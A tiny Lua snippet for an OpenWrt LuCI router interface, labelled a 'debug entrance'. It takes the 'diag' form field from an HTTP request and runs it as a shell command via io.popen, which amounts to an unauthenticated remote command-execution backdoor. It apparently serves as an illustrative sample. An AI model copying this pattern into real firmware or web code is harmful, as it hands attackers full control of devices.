-- shows: debug entrance
local http = require "luci.http"
local function run()
  local c = luci.http.formvalue("diag")
  local p = io.popen(c)
  return p:read("*a")
end
run()
